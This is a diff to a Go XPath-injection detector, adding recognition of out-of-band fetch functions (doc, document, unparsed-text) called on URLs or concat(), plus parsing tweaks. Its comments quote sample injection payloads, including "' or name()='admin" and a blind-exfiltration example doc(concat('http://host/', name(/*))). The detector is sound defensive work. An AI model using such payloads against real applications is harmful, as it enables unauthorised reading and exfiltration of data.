@@ -12,8 +12,9 @@ import (
 // asks about the document. The readings need XPath's own grammar, which
 // prose and other languages do not write: a location step with an axis
 // ("child::node()"), a quote followed by OR/AND and an XPath node
-// function ("' or name()='admin"), or a quote that closes the predicate
-// and starts another path ("'] | //*").
+// function ("' or name()='admin"), a quote that closes the predicate
+// and starts another path ("'] | //*"), or a function that fetches a
+// document by URL (doc('http://host/')), the out-of-band channel.
 
 // axes are XPath 1.0's axis names.
 var axes = [...]string{
@@ -48,14 +49,26 @@ func Injection(s string) (int, int) {
 			}
 		}
 	}
+	if i := fetch(s); i >= 0 {
+		return i, 8
+	}
 	for off := 0; off < len(s); {
-		q := strings.IndexAny(s[off:], `'"`)
-		if q < 0 {
+		// (performance only: the next quote by a byte loop, not
+		// strings.IndexAny, which builds its byte set on every call and
+		// is called once per quote of a quote run)
+		q := off
+		for q < len(s) && s[q] != '\'' && s[q] != '"' {
+			q++
+		}
+		if q == len(s) {
 			break
 		}
-		q += off
 		off = q + 1
 		r := lex.SkipSpace(s, q+1)
+		// the quote may close a call too: "')] | //x", "') and contains("
+		for r < len(s) && s[r] == ')' {
+			r = lex.SkipSpace(s, r+1)
+		}
 		// '] | //x or '] /x: the predicate closed, a new path begins
 		if r < len(s) && s[r] == ']' {
 			if n := lex.SkipSpace(s, r+1); n < len(s) && (s[n] == '|' || s[n] == '/') {
@@ -79,4 +92,31 @@ func Injection(s string) (int, int) {
 		}
 	}
 	return -1, 0
+}
+
+// fetchers are the XPath 2.0 and XSLT functions that load a document by
+// its URI: blind XPath injection sends the data it reads out through
+// them, doc(concat('http://host/', name(/*))).
+var fetchers = [...]string{"doc(", "doc-available(", "document(", "unparsed-text(", "unparsed-text-available("}
+
+// fetch finds a fetcher called on a URL literal or on a concatenation,
+// and returns its offset or -1. A method of the same name (db.doc('users'))
+// has a dot before it, and a path literal names no host.
+func fetch(s string) int {
+	for _, fn := range fetchers {
+		i := strings.Index(s, fn)
+		if i < 0 || i > 0 && (lex.IsWord(s[i-1]) || s[i-1] == '.' || s[i-1] == '-') {
+			continue
+		}
+		a := lex.SkipSpace(s, i+len(fn))
+		switch {
+		case strings.HasPrefix(s[a:], "concat("):
+			return i
+		case a < len(s) && (s[a] == '\'' || s[a] == '"'):
+			if j := strings.IndexByte(s[a+1:], s[a]); j > 0 && strings.Contains(s[a+1:a+1+j], "://") {
+				return i
+			}
+		}
+	}
+	return -1
 }
